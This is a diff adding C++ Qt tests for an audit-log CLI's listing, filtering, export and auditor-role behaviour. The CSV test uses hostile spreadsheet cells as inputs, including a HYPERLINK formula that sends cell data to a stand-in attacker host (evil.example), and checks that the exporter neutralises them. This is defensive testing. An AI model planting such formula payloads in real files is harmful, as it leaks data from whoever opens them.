@@ -4,15 +4,21 @@
 // The attacker holds the database passphrase and edits the file with the engine's own driver.
 #include "../support/CliRunner.h"
 
+#include "storage/AuditLog.h"
 #include "storage/Database.h"
+#include "storage/SqlTime.h"
 
+#include <QCryptographicHash>
 #include <QDir>
 #include <QFile>
+#include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <algorithm>
 
 using namespace Qt::StringLiterals;
 
@@ -26,6 +32,11 @@ private slots:
     void aCutTrailFailsVerifyAndLaterCommands();
     void aKeptCopyFindsWhatTheDatabaseCannot();
     void damagedOrForeignCheckpointFilesAreRefused();
+    void listFiltersByPeriodActorActionAndSubject();
+    void badPeriodIsAUsageError();
+    void csvNeutralisesHostileCellsAndJsonKeepsThem();
+    void exportToAFileIsRecordedWithItsSha256();
+    void anAuditorListsAndExportsAndWritesNothingElse();
 
 private:
     using Run = CliRunner::Run;
@@ -33,6 +44,10 @@ private:
     Run addAsset(const QString &name);
     bool tamper(const QStringList &statements);
     QString anchorFolder() const;
+    // The events `audit list` prints as JSON with these extra arguments.
+    QJsonArray listed(const QStringList &arguments);
+    // Appends events straight through the engine, as any console of this database would.
+    bool appendEvents(const QList<QStringList> &actorActionSubjectDetails);
 
     std::unique_ptr<QTemporaryDir> m_dir;
     const QString m_passphrase = u"correct horse battery staple"_s;
@@ -196,6 +211,236 @@ void TestAuditCli::damagedOrForeignCheckpointFilesAreRefused()
     const Run mixedUp = cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, foreign});
     QCOMPARE(mixedUp.exitCode, 1);
     QVERIFY2(mixedUp.err.contains("belongs to another database"), mixedUp.err.constData());
+}
+
+QJsonArray TestAuditCli::listed(const QStringList &arguments)
+{
+    const Run run = cli(QStringList{u"audit"_s, u"list"_s, u"--format"_s, u"json"_s} + arguments);
+    if (run.exitCode != 0)
+        qWarning("audit list failed: %s", run.err.constData());
+    return QJsonDocument::fromJson(run.out).array();
+}
+
+bool TestAuditCli::appendEvents(const QList<QStringList> &actorActionSubjectDetails)
+{
+    auto db = Database::open(DatabaseConfig::encryptedFile(m_dir->filePath(u"audit.db"_s), m_passphrase,
+                                                           DatabaseConfig::KeyKind::Passphrase));
+    if (!db)
+        return false;
+    AuditLog log(db.value()->connection());
+    for (const QStringList &event : actorActionSubjectDetails) {
+        if (!log.append(event.value(0), event.value(1), event.value(2), event.value(3)).ok())
+            return false;
+    }
+    return true;
+}
+
+namespace {
+
+QStringList valuesOf(const QJsonArray &events, const QString &key)
+{
+    QStringList values;
+    for (const QJsonValue &event : events)
+        values.append(event.toObject().value(key).toVariant().toString());
+    return values;
+}
+
+// RFC 4180 records of `csv`: fields unquoted, "" unescaped.
+QList<QStringList> csvRecords(const QString &csv)
+{
+    QList<QStringList> records;
+    QStringList record;
+    QString field;
+    bool quoted = false;
+    for (qsizetype i = 0; i < csv.size(); ++i) {
+        const QChar c = csv.at(i);
+        if (quoted) {
+            if (c == u'"' && i + 1 < csv.size() && csv.at(i + 1) == u'"') {
+                field += u'"';
+                ++i;
+            } else if (c == u'"') {
+                quoted = false;
+            } else {
+                field += c;
+            }
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',') {
+            record.append(field);
+            field.clear();
+        } else if (c == u'\r' && i + 1 < csv.size() && csv.at(i + 1) == u'\n') {
+            record.append(field);
+            records.append(record);
+            record.clear();
+            field.clear();
+            ++i;
+        } else {
+            field += c;
+        }
+    }
+    return records;
+}
+
+} // namespace
+
+void TestAuditCli::listFiltersByPeriodActorActionAndSubject()
+{
+    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
+    QCOMPARE(addAsset(u"db2"_s).exitCode, 0);
+    QVERIFY(appendEvents({{u"carol"_s, u"change.created"_s, u"CR-7 for Web1"_s, {}},
+                          {u"dave"_s, u"change.approved"_s, u"CR-7 for Web1"_s, {}},
+                          {u"dave"_s, u"changes.noted"_s, u"db2"_s, {}}}));
+    const QJsonArray all = listed({});
+    QVERIFY(all.size() >= 7); // this machine, two assets, the key, the three above
+
+    QCOMPARE(valuesOf(listed({u"--action"_s, u"change."_s}), u"action"_s),
+             (QStringList{u"change.approved"_s, u"change.created"_s}));
+    QCOMPARE(valuesOf(listed({u"--action"_s, u"change.approved"_s}), u"actor"_s), QStringList{u"dave"_s});
+    QCOMPARE(valuesOf(listed({u"--actor"_s, u"dave"_s}), u"action"_s),
+             (QStringList{u"changes.noted"_s, u"change.approved"_s}));
+    QCOMPARE(valuesOf(listed({u"--subject"_s, u"WEB1"_s, u"--action"_s, u"asset."_s}), u"subject"_s),
+             QStringList{u"web1"_s});
+    QCOMPARE(valuesOf(listed({u"--subject"_s, u"web1"_s}), u"subject"_s),
+             (QStringList{u"CR-7 for Web1"_s, u"CR-7 for Web1"_s, u"web1"_s}));
+
+    // The period: the events are all from today (UTC).
+    const QDate today = QDateTime::currentDateTimeUtc().date();
+    const QString day = today.toString(Qt::ISODate);
+    QCOMPARE(listed({u"--from"_s, day, u"--to"_s, day}).size(), all.size());
+    QCOMPARE(listed({u"--to"_s, today.addDays(-1).toString(Qt::ISODate)}).size(), 0);
+    QCOMPARE(listed({u"--from"_s, today.addDays(1).toString(Qt::ISODate)}).size(), 0);
+    // A time: --from an event's instant lists it and every event at or after it (several events can share a
+    // millisecond); --to it, it and every event at or before it.
+    const QString at = all.at(all.size() - 3).toObject().value(u"at"_s).toString();
+    QStringList from;
+    QStringList to;
+    for (const QJsonValue &event : all) {
+        const QString id = event.toObject().value(u"id"_s).toVariant().toString();
+        (event.toObject().value(u"at"_s).toString() >= at ? from : to).append(id);
+        if (event.toObject().value(u"at"_s).toString() == at)
+            to.append(id);
+    }
+    std::sort(to.begin(), to.end(), [](const QString &a, const QString &b) { return a.toInt() > b.toInt(); });
+    QVERIFY(!from.isEmpty() && from.size() < all.size());
+    QCOMPARE(valuesOf(listed({u"--from"_s, at}), u"id"_s), from);
+    QCOMPARE(valuesOf(listed({u"--to"_s, at}), u"id"_s), to);
+}
+
+void TestAuditCli::badPeriodIsAUsageError()
+{
+    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
+    const Run bad = cli({u"audit"_s, u"list"_s, u"--from"_s, u"last tuesday"_s});
+    QCOMPARE(bad.exitCode, 2);
+    QVERIFY2(bad.err.contains("--from needs an ISO 8601 date or time"), bad.err.constData());
+    const Run backwards =
+        cli({u"audit"_s, u"list"_s, u"--from"_s, u"2026-11-02"_s, u"--to"_s, u"2026-11-01"_s});
+    QCOMPARE(backwards.exitCode, 2);
+    QVERIFY2(backwards.err.contains("--to must not be before --from"), backwards.err.constData());
+}
+
+void TestAuditCli::csvNeutralisesHostileCellsAndJsonKeepsThem()
+{
+    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
+    const QStringList hostile{u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s,
+                              u"+1"_s,
+                              u"-1"_s,
+                              u"@SUM(A1:A9)"_s,
+                              u"\tfoo"_s,
+                              u"\rbar"_s};
+    QList<QStringList> events;
+    for (const QString &text : hostile)
+        events.append({text, u"hostile.cell"_s, text, text});
+    QVERIFY(appendEvents(events));
+
+    const Run csv = cli({u"audit"_s, u"list"_s, u"--action"_s, u"hostile.cell"_s, u"--format"_s, u"csv"_s});
+    QCOMPARE(csv.exitCode, 0);
+    const QList<QStringList> records = csvRecords(QString::fromUtf8(csv.out));
+    QCOMPARE(records.size(), 1 + hostile.size());
+    QCOMPARE(records.constFirst(),
+             (QStringList{u"id"_s, u"at"_s, u"actor"_s, u"action"_s, u"subject"_s, u"details"_s, u"hash"_s}));
+    // Formula starters are quoted out; a carriage return is shown as a visible escape (no cell starts with
+    // a raw one).
+    const QStringList expected{u"'"_s + hostile.at(0), u"'+1"_s,    u"'-1"_s,
+                               u"'@SUM(A1:A9)"_s,      u"'\tfoo"_s, u"\\x0Dbar"_s};
+    for (qsizetype row = 1; row < records.size(); ++row) {
+        const QString want = expected.at(hostile.size() - row); // newest first
+        for (int column : {2, 4, 5}) {                          // actor, subject, details
+            const QString cell = records.at(row).value(column);
+            QCOMPARE(cell, want);
+            QVERIFY2(!QStringLiteral("=+-@\t\r").contains(cell.at(0)), qPrintable(cell));
+        }
+    }
+
+    // JSON keeps every value exactly (programs read it; nothing there runs as a formula).
+    QCOMPARE(valuesOf(listed({u"--action"_s, u"hostile.cell"_s}), u"details"_s),
+             QStringList(hostile.crbegin(), hostile.crend()));
+
+    // The exported file is the same bytes.
+    const QString path = m_dir->filePath(u"hostile.csv"_s);
+    const Run exported = cli(
+        {u"audit"_s, u"list"_s, u"--action"_s, u"hostile.cell"_s, u"--format"_s, u"csv"_s, u"--out"_s, path});
+    QCOMPARE(exported.exitCode, 0);
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    QCOMPARE(file.readAll(), csv.out);
+}
+
+void TestAuditCli::exportToAFileIsRecordedWithItsSha256()
+{
+    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
+    QCOMPARE(addAsset(u"web2"_s).exitCode, 0);
+    const QString path = m_dir->filePath(u"assets.json"_s);
+    const Run run =
+        cli({u"audit"_s, u"list"_s, u"--action"_s, u"asset."_s, u"--format"_s, u"json"_s, u"--out"_s, path});
+    QVERIFY2(run.exitCode == 0, run.err.constData());
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray bytes = file.readAll();
+    const QJsonArray written = QJsonDocument::fromJson(bytes).array();
+    QCOMPARE(valuesOf(written, u"subject"_s).size(), 3); // this machine, web1, web2
+    QCOMPARE(valuesOf(written, u"action"_s), QStringList(3, u"asset.added"_s));
+    const QByteArray sha256 = QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex();
+    QVERIFY2(run.out.contains(sha256), run.out.constData());
+
+    const QJsonArray recorded = listed({u"--action"_s, u"report.exported"_s});
+    QCOMPARE(recorded.size(), 1);
+    const QJsonObject event = recorded.first().toObject();
+    QCOMPARE(event.value(u"subject"_s).toString(), u"assets.json"_s);
+    QVERIFY2(event.value(u"details"_s).toString().contains(u"sha256 "_s + QString::fromLatin1(sha256)),
+             qPrintable(event.value(u"details"_s).toString()));
+    QVERIFY(event.value(u"details"_s).toString().contains(u"json, 3 event(s) (action asset.)"_s));
+    QCOMPARE(cli({u"audit"_s, u"verify"_s}).exitCode, 0);
+}
+
+void TestAuditCli::anAuditorListsAndExportsAndWritesNothingElse()
+{
+    // Local mode: listing a user makes the one listing them an admin; then this OS account becomes an
+    // auditor (another admin remains).
+    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
+    QCOMPARE(cli({u"user"_s, u"add"_s, u"boss"_s, u"--role"_s, u"admin"_s}).exitCode, 0);
+    const QString me =
+        listed({u"--action"_s, u"asset.added"_s}).first().toObject().value(u"actor"_s).toString();
+    const Run demoted = cli({u"user"_s, u"add"_s, me, u"--role"_s, u"auditor"_s});
+    QVERIFY2(demoted.exitCode == 0, demoted.err.constData());
+    const Run whoami = cli({u"whoami"_s});
+    QVERIFY2(whoami.out.contains("auditor"), whoami.out.constData());
+
+    const int before = int(listed({}).size());
+    const Run refused = addAsset(u"web2"_s);
+    QVERIFY(refused.exitCode != 0);
+    QCOMPARE(int(listed({}).size()), before); // refused before anything was written
+    // user.added boss, user.added (me, as the first admin), user.role-changed (me, to auditor).
+    QCOMPARE(listed({u"--actor"_s, me, u"--action"_s, u"user."_s}).size(), 3);
+
+    const QString path = m_dir->filePath(u"auditor.csv"_s);
+    const Run exported = cli({u"audit"_s, u"list"_s, u"--format"_s, u"csv"_s, u"--out"_s, path});
+    QVERIFY2(exported.exitCode == 0, exported.err.constData());
+    QVERIFY(QFile::exists(path));
+    const QJsonArray after = listed({});
+    QCOMPARE(int(after.size()), before + 1); // the export's own event, nothing else
+    QCOMPARE(after.first().toObject().value(u"action"_s).toString(), u"report.exported"_s);
+    QCOMPARE(after.first().toObject().value(u"actor"_s).toString(), me);
+    QCOMPARE(cli({u"audit"_s, u"verify"_s}).exitCode, 0);
 }
 
 QTEST_GUILESS_MAIN(TestAuditCli)
